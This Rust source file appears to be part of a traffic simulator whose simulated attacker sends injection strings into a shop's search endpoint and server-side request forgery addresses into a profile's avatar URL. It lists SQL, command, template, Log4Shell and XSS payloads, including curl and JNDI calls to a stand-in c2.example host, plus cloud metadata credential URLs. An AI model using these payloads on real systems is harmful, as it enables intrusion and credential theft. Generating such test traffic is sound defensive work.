//! Somebody who puts code into what he searches for, or an address that only the server reaches into his profile.

use super::super::people::Person;
use super::super::scenario::Scenario;
use super::super::shop::{api, dress};
use super::super::stage::{Actor, Caller, Stage};
use super::{Plan, attacker_token, strike};
use crate::time::Timestamp;
use std::fmt::Write as _;

/// What tools and lists of payloads begin with.
const CODE: [&str; 14] = [
    "' OR '1'='1",
    "1) AND 4821=4821-- -",
    "1' UNION ALL SELECT NULL,NULL,NULL-- -",
    "1' AND SLEEP(5)-- x",
    "x'; DROP TABLE products;--",
    "../../../../../../etc/passwd",
    "; cat /etc/passwd",
    "$(curl http://c2.example/x)",
    "| whoami",
    "${jndi:ldap://c2.example/a}",
    "{{7*7}}",
    "<script>alert(1)</script>",
    "\"><svg onload=alert(1)>",
    "admin'--",
];
/// What lies behind servers.
const HIDDEN: [&str; 5] = [
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://metadata.google.internal/computeMetadata/v1/instance/",
    "gopher://127.0.0.1:6379/_INFO",
    "http://2130706433:8080/",
    "file:///etc/hostname",
];

struct Attacker {
    plan: Plan,
    caller: Caller,
    done: u32,
}

pub fn cast(stage: &mut Stage<'_>, mut plan: Plan) {
    let caller = plan.caller(stage, 0);
    stage.start(plan.from, Box::new(Attacker { plan, caller, done: 0 }));
}

impl Attacker {
    /// Mostly it is ignored; some is refused, and some breaks the search.
    fn search(&mut self, stage: &mut Stage<'_>) {
        let (exchange, rng) = (&mut stage.exchange, &mut self.caller.rng);
        api::search(exchange, rng, 1);
        exchange.target.clear();
        exchange.target.push_str("/v1/search?q=");
        for byte in rng.pick(&CODE).bytes() {
            // Writing into memory cannot fail.
            let _ = match byte.is_ascii_alphanumeric() {
                true => write!(exchange.target, "{}", char::from(byte)),
                false => write!(exchange.target, "%{byte:02X}"),
            };
        }
        if rng.chance(0.3) {
            exchange.json(400, format_args!(r#"{{"error":"bad_request"}}"#));
        } else if rng.chance(0.1) {
            exchange.json(500, format_args!(r#"{{"error":"internal"}}"#));
        }
    }

    fn change_picture(&mut self, stage: &mut Stage<'_>) {
        let exchange = &mut stage.exchange;
        api::change_profile(exchange, Person(390_000 + self.plan.index as u32));
        let nth = self.done as usize;
        let address = match HIDDEN.get(nth % 12) {
            Some(hidden) => (*hidden).to_owned(),
            None => format!("http://10.0.{}.{}:8080/", nth / 250, nth % 250 + 1),
        };
        exchange.body.clear();
        exchange.json_body(format_args!(r#"{{"phone":"","avatar_url":"{address}"}}"#));
        attacker_token(exchange, stage.world.start, self.plan.index);
    }
}

impl Actor for Attacker {
    fn step(&mut self, now: Timestamp, stage: &mut Stage<'_>) -> Option<Timestamp> {
        if self.plan.is_over(self.done, now) {
            stage.leave(&mut self.caller, now);
            return None;
        }
        match self.plan.scenario {
            Scenario::Injection => self.search(stage),
            _ => self.change_picture(stage),
        }
        dress(&mut stage.exchange, &mut self.caller.rng);
        self.done += 1;
        let end = strike(stage, &mut self.caller, now, &self.plan);
        let next = self.plan.next(now, end, &mut self.caller.rng);
        stage.rest(&mut self.caller, next);
        Some(next)
    }
}
